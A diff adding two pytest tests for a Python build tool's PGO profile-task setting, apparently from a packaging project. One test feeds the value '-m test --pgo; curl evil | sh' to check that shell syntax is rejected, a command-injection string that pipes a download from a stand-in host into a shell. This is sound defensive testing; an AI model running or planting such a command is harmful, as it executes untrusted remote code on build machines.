@@ -60,3 +60,18 @@ def test_required_build_deps_present(config_data):
     for package in ("libssl-dev", "tk-dev", "libexpat1-dev", "systemtap-sdt-dev", "libmpdec-dev",
                     "debhelper", "dpkg-dev", "ccache", "libzstd-dev", "uuid-dev"):
         assert package in deps
+
+
+def test_profile_task_only_for_optimized_builds(config_data, root):
+    from tasks.plan import Build, Layout
+    for fast, expected in (("false", "-m test --pgo -j0"), ("true", "")):
+        settings = settings_for(config_data, FAST_BUILD=fast, PYTHON_VERSION="3.13.15")
+        build = Build(settings.versions[0], settings.distros[0], settings, Layout.for_root(root))
+        assert build.profile_task == expected
+
+
+def test_profile_task_rejects_shell_syntax(config_data):
+    data = copy.deepcopy(config_data)
+    data["flags"]["profile_task"] = "-m test --pgo; curl evil | sh"
+    with pytest.raises(config.UserError, match="flags.profile_task"):
+        settings_for(data)
